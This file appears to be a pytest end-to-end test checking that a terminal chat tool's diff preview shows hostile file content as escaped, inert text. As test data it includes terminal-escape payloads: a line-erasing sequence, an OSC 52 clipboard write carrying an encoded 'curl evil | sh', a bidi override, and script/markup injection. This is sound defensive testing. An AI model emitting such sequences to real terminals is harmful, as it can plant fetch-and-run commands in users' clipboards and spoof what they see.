"""The chat's preview (Ctrl-O) of a hostile speculation: a file whose lines hold terminal
escapes (erase the lines above, write the clipboard), a bidi override and markup. The raw
bytes the chat writes while the preview is open hold only prompt_toolkit's own sequences;
every hostile one shows as its visible escape, and the markup as text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from protocol.text.inert_text import inert
from protocol.wire.control import SuggestionRequest
from tests.coordinator.e2e import stepped_scenario, write_call
from tests.coordinator.pty_screen import ScreenTerminal
from tests.security.terminal_bytes import PROMPT_TOOLKIT_OWN, assert_only_own_sequences
from tests.support import Specrun, make_sample_project, running_service, wait_until

UP_ERASE = "\x1b[1A\x1b[2K"
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # "curl evil | sh" into the clipboard
HOSTILE = (f"Erase{UP_ERASE}looks fine\nClip{OSC52}\nFlip\u202eevil\n"
           "<script>alert(1)</script> [bold red]markup[/]\n")
MARKED = {"Erase": "\x1b[1A", "Clip": "\x1b]52", "Flip": "\u202e"}
TEXT = "write the notes"
# A full-screen view also writes the bottom-right cell and steps back over it (a space,
# then a backspace); nothing else besides prompt_toolkit's usual sequences.
FULL_SCREEN_OWN = re.compile(PROMPT_TOOLKIT_OWN.pattern + r"|(?<= )\x08")


def scenario() -> dict[str, Any]:
    write = write_call("notes.txt", HOSTILE)
    return stepped_scenario("hostile-preview", {TEXT: [write]}, lambda _text: {"text": "Done."},
                            anchored=True)


@pytest.fixture
def chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Specrun, ScreenTerminal]]:
    tmp = tmp_path_factory.mktemp("hostile-preview")
    project = make_sample_project(tmp / "project")
    path = tmp / "scenario.yaml"
    path.write_text(yaml.safe_dump(scenario()))
    with running_service(project, "--approval-mode", "auto-edit", "--scenario",
                         str(path)) as runner:
        term = ScreenTerminal(runner, "chat", rows=30, cols=160)
        try:
            yield runner, term
        finally:
            term.close()


def test_the_preview_shows_hostile_diff_lines_escaped(
    chat: tuple[Specrun, ScreenTerminal],
) -> None:
    runner, term = chat
    term.wait_for("Ctrl-D quits")
    term.send("hello\r")
    term.wait_for("Hi.")
    term.send(f"go {TEXT}\r")
    assert wait_until(lambda: (runner.query(SuggestionRequest).get("speculation") or {})
                      .get("status") == "completed", timeout=60)
    term.wait_for(f"(?m)^❯ {re.escape(TEXT)}")
    start = len(term.raw)
    term.send("\x0f")  # Ctrl-O
    term.wait_for(r"\(end\)")
    shown = term.text()
    term.send("\x1b")
    term.wait(lambda t: "r refreshes" not in t.text(), what="the preview closed")

    raw = bytes(term.raw[start:]).decode("utf-8", "replace")
    text = assert_only_own_sequences(raw, MARKED, FULL_SCREEN_OWN)
    assert "+Erase" + inert(UP_ERASE) + "looks fine" in text
    assert "+Clip" + inert(OSC52) in text
    assert "+Flip\\u202eevil" in text
    assert "+<script>alert(1)</script> [bold red]markup[/]" in shown  # text, as written
    assert "created notes.txt  +4 -0" in shown
    assert not (runner.project / "notes.txt").exists()  # the preview applies nothing
